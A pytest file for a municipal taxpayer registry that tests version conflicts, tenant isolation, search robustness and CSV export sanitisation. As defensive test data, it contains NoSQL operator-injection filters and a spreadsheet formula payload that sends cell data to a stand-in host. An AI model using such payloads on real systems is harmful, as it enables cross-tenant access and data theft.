"""The registry's shared mechanisms hold under attack and concurrency (issue 10: defects 4, 6, 14, 15).

Versions refuse a stale edit, the municipality of a listing is always the authorized one, filter
values are literals, odd search text never crashes, exports never carry a formula, and the specs are
there whenever the registry is used.
"""
from __future__ import annotations

import subprocess
import sys
import threading
from datetime import datetime, timezone
from pathlib import Path

import pytest

from services.shared import clock, entities, entity_files, entity_lists, explorer
from services.shared.errors import Conflict, ValidationFailed
from services.shared.schema import ListQuery
from services.store import insert_one
from tests import figures
from tests.conftest import SECRETARIA_CG, SECRETARIA_MP

ROOT = Path(__file__).resolve().parent.parent
TAXPAYER = {"name": "Rosa Amaral", "document": "52998224725", "kind": "pf", "address": "Rua C, 3"}
OTHER = {"name": "Lia Paz", "document": "11144477735", "kind": "pj", "address": "Rua D, 4"}


@pytest.fixture
def at_13_05_utc(monkeypatch):
    """Every write happens at 13:05 UTC, 09:05 in Cuiabá."""
    moment = datetime(2026, 3, 2, 13, 5, tzinfo=timezone.utc)
    monkeypatch.setattr(clock, "now_utc", lambda: moment)


# ---- defect 4: versions ----

def test_a_new_record_starts_at_version_1(db):
    doc_id = entities.create(db, SECRETARIA_CG, "taxpayers", "chapada", TAXPAYER)
    assert entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id)["version"] == 1


def test_the_second_editor_is_refused_and_the_first_change_stays(db, at_13_05_utc):
    insert_one(db["users"], {"username": "sec.cg", "name": "Servidora de Chapada"})
    doc_id = entities.create(db, SECRETARIA_CG, "taxpayers", "chapada", TAXPAYER)
    first = entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id)
    second = entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id)
    entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, {"address": "Rua Nova, 1"},
                    expected_version=first["version"])
    audits = db["audit"].count_documents({})
    with pytest.raises(Conflict) as refused:
        entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, {"address": "Rua Velha, 2"},
                        expected_version=second["version"])
    assert refused.value.message == ("Este registro foi alterado por Servidora de Chapada às 09:05; "
                                     "recarregue a página para ver a versão atual.")
    stored = entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id)
    assert (stored["address"], stored["version"]) == ("Rua Nova, 1", 2)
    assert db["audit"].count_documents({}) == audits


def test_the_conflict_names_the_username_when_the_user_is_not_registered(db, at_13_05_utc):
    doc_id = entities.create(db, SECRETARIA_CG, "taxpayers", "chapada", TAXPAYER)
    entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, {"name": "Rosa A."}, expected_version=1)
    with pytest.raises(Conflict, match="alterado por sec.cg às 09:05"):
        entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, {"name": "Rosa B."}, expected_version=1)


def test_eight_editors_of_the_same_version_exactly_one_wins(db):
    doc_id = entities.create(db, SECRETARIA_CG, "taxpayers", "chapada", TAXPAYER)
    outcomes: list[str] = []
    start = threading.Barrier(8)

    def edit(n: int) -> None:
        start.wait()
        try:
            entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, {"address": f"Rua {n}"},
                            expected_version=1)
            outcomes.append(f"Rua {n}")
        except Conflict:
            outcomes.append("conflict")

    threads = [threading.Thread(target=edit, args=(n,)) for n in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    winners = [o for o in outcomes if o != "conflict"]
    assert len(outcomes) == 8 and len(winners) == 1
    stored = entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id)
    assert (stored["address"], stored["version"]) == (winners[0], 2)
    assert db["audit"].count_documents({"action": "update", "doc_id": doc_id}) == 1
    figures.concurrency("edições de um registro", 8, outcomes.count("conflict"))


def test_a_record_saved_before_versions_counts_as_version_0(db):
    legacy = insert_one(db["taxpayers"], {**TAXPAYER, "municipality": "chapada"})
    doc = entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", str(legacy))
    assert doc["version"] == 0
    entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", str(legacy), {"name": "Rosa A."}, expected_version=0)
    assert entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", str(legacy))["version"] == 1
    with pytest.raises(Conflict):
        entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", str(legacy), {"name": "Rosa B."},
                        expected_version=0)


def test_an_update_without_a_version_is_refused_and_a_versioned_one_bumps_it(db):
    """Issue 20, defect 4: the version is a required argument, so a stale overwrite cannot skip it."""
    doc_id = entities.create(db, SECRETARIA_CG, "taxpayers", "chapada", TAXPAYER)
    with pytest.raises(TypeError, match="expected_version"):
        entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, {"name": "Stale"})
    with pytest.raises(TypeError, match="expected_version"):
        entities.remove(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, "Engano")
    assert entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id)["name"] == TAXPAYER["name"]
    entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, {"name": "Rosa A."}, expected_version=1)
    assert entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id)["version"] == 2
    with pytest.raises(Conflict):
        entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, {"name": "Rosa B."}, expected_version=1)


# ---- defect 6: the tenant and literal filters ----

@pytest.fixture
def two_towns(db):
    entities.create(db, SECRETARIA_CG, "taxpayers", "chapada", TAXPAYER)
    entities.create(db, SECRETARIA_MP, "taxpayers", "matupa", OTHER)
    return db


LISTINGS = {"list_page": entity_lists, "list_all": entity_lists, "export_csv": entity_files}  # call -> its module


@pytest.mark.parametrize("filters", [
    {"municipality": "chapada"},
    {"kind": {"$ne": None}},
    {"kind": {"$in": ["pf", "pj"]}},
    {"kind": [{"$ne": None}]},
    {"kind": "$ne"},
    {"name": "Rosa Amaral"},  # not a filter of the spec
    {"$or": [{"municipality": "chapada"}]},
], ids=["municipality key", "$ne operator", "$in operator", "list with operator", "$ string", "not filterable",
        "$or key"])
@pytest.mark.parametrize("call", ["list_page", "list_all", "export_csv"])
def test_a_matupa_user_never_reaches_chapada_rows_through_filters(two_towns, call, filters):
    with pytest.raises(ValidationFailed) as refused:
        getattr(LISTINGS[call], call)(two_towns, SECRETARIA_MP, "taxpayers", "matupa", ListQuery(filters=filters))
    assert refused.value.errors and all(refused.value.errors.values())


def test_filter_values_are_parsed_as_the_fields_type(two_towns):
    page = entity_lists.list_page(two_towns, SECRETARIA_MP, "taxpayers", "matupa",
                                  ListQuery(filters={"kind": "Pessoa jurídica"}))
    assert [r["name"] for r in page.rows] == ["Lia Paz"]
    with pytest.raises(ValidationFailed, match="Tipo: opção inválida"):
        entity_lists.list_page(two_towns, SECRETARIA_MP, "taxpayers", "matupa", ListQuery(filters={"kind": "xx"}))


def test_a_list_of_literal_filter_values_matches_any_of_them(two_towns):
    entities.create(two_towns, SECRETARIA_MP, "taxpayers", "matupa", {**TAXPAYER, "kind": "entidade"})
    page = entity_lists.list_page(two_towns, SECRETARIA_MP, "taxpayers", "matupa",
                                  ListQuery(filters={"kind": ["pj", "entidade"]}, sort="name"))
    assert [r["name"] for r in page.rows] == ["Lia Paz", "Rosa Amaral"]


@pytest.mark.parametrize("query", [ListQuery(sort="password_hash"), ListQuery(sort="$natural"),
                                   ListQuery(per_page=0), ListQuery(per_page=-3)],
                         ids=["unknown sort", "operator sort", "zero per page", "negative per page"])
def test_sort_and_paging_outside_the_spec_are_refused(two_towns, query):
    with pytest.raises(ValidationFailed):
        entity_lists.list_page(two_towns, SECRETARIA_MP, "taxpayers", "matupa", query)


def test_the_data_explorer_refuses_a_collection_that_does_not_exist(db):
    from services.shared.auth import Actor

    ti_mp = Actor("ti.mp", "TI Matupá", "ti", ("matupa",))
    with pytest.raises(ValidationFailed, match="Coleção"):
        explorer.browse(db, ti_mp, "$cmd", None)
    assert "$cmd" not in db.list_collection_names()


# ---- defect 14 (half): odd search text ----

@pytest.mark.parametrize("term", ["\x00", "Ro\x00sa", "(.*", "[", "\\", "a" * 100_000, "🚕 Rosa 👩🏽‍💼", "$where"],
                         ids=["NUL", "NUL inside", "regex group", "open class", "backslash", "100k", "emoji", "$where"])
def test_odd_search_text_never_crashes(two_towns, term):
    page = entity_lists.list_page(two_towns, SECRETARIA_CG, "taxpayers", "chapada", ListQuery(search=term))
    assert all(r["municipality"] == "chapada" for r in page.rows)


def test_search_ignores_nul_and_matches_the_rest(two_towns):
    page = entity_lists.list_page(two_towns, SECRETARIA_CG, "taxpayers", "chapada", ListQuery(search="Ro\x00sa"))
    assert [r["name"] for r in page.rows] == ["Rosa Amaral"]


def test_search_reads_only_the_first_200_characters(db):
    """A longer term is trimmed, not refused: what follows character 200 is ignored."""
    entities.create(db, SECRETARIA_CG, "taxpayers", "chapada", {**TAXPAYER, "name": "A" * 250})
    query = ListQuery(search="A" * entity_lists.SEARCH_MAX + "B" * 100_000)
    assert entity_lists.list_page(db, SECRETARIA_CG, "taxpayers", "chapada", query).total == 1


# ---- defect 15: CSV formula injection and spec registration ----

@pytest.mark.parametrize("text", ['=HYPERLINK("http://x.example/?d="&A1;"Clique")', "+1+2", "-2+3", "@SUM(A1)"],
                         ids=["=", "+", "-", "@"])
def test_text_that_starts_a_formula_is_exported_as_text(db, text):
    entities.create(db, SECRETARIA_CG, "taxpayers", "chapada", {**TAXPAYER, "name": text})
    import csv
    import io

    exported = entity_files.export_csv(db, SECRETARIA_CG, "taxpayers", "chapada", ListQuery()).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(exported), delimiter=";"))
    assert rows[1][0] == "'" + text


def test_numbers_and_dates_are_exported_without_the_text_prefix(db):
    entities.create(db, SECRETARIA_CG, "platforms", "chapada", {
        "name": "Roda", "cnpj": "11222333000181", "status": "ativo", "insurance_coverage": "1.234,56",
        "credentialed_on": "02/03/2026"})
    exported = entity_files.export_csv(db, SECRETARIA_CG, "platforms", "chapada", ListQuery()).decode("utf-8-sig")
    row = exported.splitlines()[1].split(";")
    assert "1234,56" in row or "1.234,56" in row
    assert "02/03/2026" in row


def test_a_script_that_imports_only_the_registry_finds_every_spec(data_dir):
    code = ("from services.shared import entities, schema\n"
            "from services.store import connect\n"
            "from services.shared.auth import Actor\n"
            "SECRETARIA_CG = Actor('sec.cg', 'Servidora', 'secretaria', ('chapada',))\n"
            "db = connect()\n"
            "doc_id = entities.create(db, SECRETARIA_CG, 'taxpayers', 'chapada', "
            "{'name': 'Rosa', 'document': '52998224725', 'kind': 'pf', 'address': 'Rua C, 3'})\n"
            "print(entities.spec('taxpayers').label, sorted(schema.SPECS)[:1], 'drivers' in schema.SPECS)\n")
    out = subprocess.run([sys.executable, "-c", code], cwd=ROOT, capture_output=True, text=True)
    assert out.returncode == 0, out.stderr
    assert out.stdout.split() == ["Contribuinte", "['authorizations']", "True"]


# ---- defect 4 on screen: the edit form keeps the version it loaded ----

def _edit_form_script():
    import streamlit as st

    from services.shared import entities
    from ui import common
    from ui.entity import entity_form

    actor = st.session_state["actor"]
    spec = entities.spec_for(common.db(), "taxpayers", "chapada")
    doc = entities.get(common.db(), actor, "taxpayers", "chapada", st.session_state["doc_id"])
    entity_form(spec, actor, "chapada", doc)


def test_the_edit_form_refuses_a_stale_save_and_keeps_what_was_typed(db, at_13_05_utc):
    from streamlit.testing.v1 import AppTest

    doc_id = entities.create(db, SECRETARIA_CG, "taxpayers", "chapada", TAXPAYER)
    at = AppTest.from_function(_edit_form_script, default_timeout=60)
    at.session_state["actor"] = SECRETARIA_CG
    at.session_state["doc_id"] = doc_id
    at.run()
    address = at.text_input(key=f"taxpayers_form_{doc_id}_address")
    address.input("Rua do Segundo, 2")
    entities.update(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id, {"address": "Rua do Primeiro, 1"},
                    expected_version=1)
    at.get("form_submit_button")[-1].click().run()
    assert not at.exception
    assert [e.value for e in at.error] == [
        "Este registro foi alterado por sec.cg às 09:05; recarregue a página para ver a versão atual."]
    assert at.text_input(key=f"taxpayers_form_{doc_id}_address").value == "Rua do Segundo, 2"
    assert entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id)["address"] == "Rua do Primeiro, 1"
    at.button(key=f"taxpayers_form_{doc_id}_reload").click().run()
    assert not at.error
    assert at.text_input(key=f"taxpayers_form_{doc_id}_address").value == "Rua do Primeiro, 1"
    at.text_input(key=f"taxpayers_form_{doc_id}_address").input("Rua do Segundo, 2")
    at.get("form_submit_button")[-1].click().run()
    assert not at.error
    stored = entities.get(db, SECRETARIA_CG, "taxpayers", "chapada", doc_id)
    assert (stored["address"], stored["version"]) == ("Rua do Segundo, 2", 3)


def test_a_picker_offers_at_most_twenty_records_and_finds_an_old_one_by_its_key(db):
    """The searchable picker asks the store for a bounded page, whatever the register's size."""
    import random

    from seed.people import cpf

    rng = random.Random(5)
    documents = [cpf(rng) for _ in range(30)]
    for n, document in enumerate(documents):
        entities.create(db, SECRETARIA_CG, "taxpayers", "chapada",
                        {**TAXPAYER, "name": f"Contribuinte {n:02d}", "document": document})
    offered = entity_lists.lookup(db, SECRETARIA_CG, "taxpayers", "chapada")
    assert len(offered) == entity_lists.LOOKUP_LIMIT and offered[0]["name"] == "Contribuinte 29"  # newest first
    [oldest] = entity_lists.lookup(db, SECRETARIA_CG, "taxpayers", "chapada", documents[0])
    assert oldest["name"] == "Contribuinte 00"
    assert entity_lists.lookup(db, SECRETARIA_MP, "taxpayers", "matupa", documents[0]) == []
